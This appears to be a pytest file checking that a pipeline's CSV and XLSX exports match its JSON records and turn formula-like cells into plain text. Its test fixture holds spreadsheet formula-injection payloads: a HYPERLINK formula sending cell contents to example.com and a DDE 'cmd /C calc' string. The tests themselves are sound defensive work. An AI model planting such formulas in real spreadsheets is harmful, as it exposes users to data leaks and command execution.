"""Spreadsheets: the XLSX workbook and the CSV read back equal the JSON records, and a cell a
spreadsheet would run as a formula comes back as text."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from pipeline.outputs import export, spreadsheet
from pipeline.vocabulary import CARD_TEXTS

INJECTED = {
    "title": '=HYPERLINK("http://example.com/?"&A1,"clic")',
    "summary": "+33 1 23 45 67 89",
    "innovation": "-2 % de dépenses",
    "apports": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def hostile(edition_2024):
    """The generated edition with formula-like texts in a card, and a title =1+1."""
    doc = edition_2024[1]
    first = doc.projects[0].model_copy(update=INJECTED)
    second = doc.projects[1].model_copy(update={"title": "=1+1"})
    return doc.model_copy(update={"projects": [first, second, *doc.projects[2:]]})


def records(doc) -> list[dict]:
    return json.loads(export.serialize(doc, "json"))["projects"]


def undo(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


@pytest.mark.parametrize("sep, char", [(";", ";"), (",", ","), ("tab", "\t")])
def test_csv_cells_are_neutralised_and_the_rule_undoes_it(hostile, sep, char):
    text = export.serialize(hostile, "csv", sep)
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=char))
    assert rows[0]["title"] == "'" + INJECTED["title"] and rows[1]["title"] == "'=1+1"
    assert not any(
        cell.startswith(spreadsheet.FORMULA_STARTS) for row in rows for cell in row.values()
    )
    for row, record in zip(rows, records(hostile)):
        for column in ("id", "title", "summary", "innovation", "problematique", "apports"):
            assert (undo(row[column]) or None) == record[column], column


def test_csv_says_which_records_carry_warnings(sample):
    rows = list(
        csv.DictReader(io.StringIO(export.serialize(sample, "csv")[1:], newline=""), delimiter=";")
    )
    for row, project in zip(rows, sample.projects):
        codes = [w.code for w in sample.warnings if w.project_id == project.id]
        assert row["warnings"] == " ; ".join(codes)


def test_xlsx_sheets_equal_the_json_records(hostile):
    book = load_workbook(io.BytesIO(export.serialize(hostile, "xlsx")))
    assert book.sheetnames == ["projects", "territories", "warnings"]
    projects = book["projects"]
    header = [c.value for c in projects[1]]
    assert header == list(spreadsheet.PROJECT_COLUMNS)
    assert projects.freeze_panes == "A2" and projects.auto_filter.ref
    rows = [dict(zip(header, (c.value for c in row))) for row in projects.iter_rows(min_row=2)]
    for row, record in zip(rows, records(hostile), strict=True):
        for column in ("id", "category", "medal", "title", *CARD_TEXTS):
            assert row[column] == record[column], column
        assert row["territories"] == " ; ".join(t["name"] for t in record["territories"])
    assert rows[1]["title"] == "=1+1"
    title = projects.cell(row=3, column=header.index("title") + 1)
    assert title.data_type == "s" and title.quotePrefix  # text, kept text when edited
    assert all(c.data_type != "f" for row in projects.iter_rows() for c in row)


def test_xlsx_territories_and_warnings(hostile):
    book = load_workbook(io.BytesIO(export.serialize(hostile, "xlsx")))
    territories = list(book["territories"].values)
    assert territories[1:] == [
        (hostile.edition.year, p.id, i, *t.model_dump(mode="json").values())
        for p in hostile.projects
        for i, t in enumerate(p.territories)
    ]
    warnings = list(book["warnings"].values)
    assert warnings[0] == spreadsheet.WARNING_COLUMNS
    assert [w[2] for w in warnings[1:]] == [w.code for w in hostile.warnings]
